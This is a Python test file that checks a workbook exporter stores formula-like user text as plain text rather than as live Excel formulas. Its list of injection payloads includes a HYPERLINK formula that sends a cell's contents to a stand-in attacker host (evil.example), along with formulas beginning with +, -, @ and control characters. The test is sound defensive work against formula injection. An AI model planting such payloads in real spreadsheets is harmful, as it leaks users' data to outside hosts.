"""User text in exported workbooks stays text: never a live formula."""

from __future__ import annotations

import zipfile
from io import BytesIO

from openpyxl import Workbook, load_workbook

from kinerja.core.xlsx import workbook_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_text_that_looks_like_a_formula_is_stored_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([*ATTACKS, 5, -3, "Antrean panjang"])
    data = workbook_bytes(book)
    xml = zipfile.ZipFile(BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cells = list(load_workbook(BytesIO(data)).active[1])  # type: ignore[index]
    # (XML reads a stored CR back as LF)
    assert [c.value for c in cells] == [*ATTACKS[:-1], "\n=1", 5, -3, "Antrean panjang"]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS) + ["n", "n", "s"]
    assert all(c.quotePrefix for c in cells[: len(ATTACKS)])
    assert not cells[-1].quotePrefix  # ordinary text is left alone
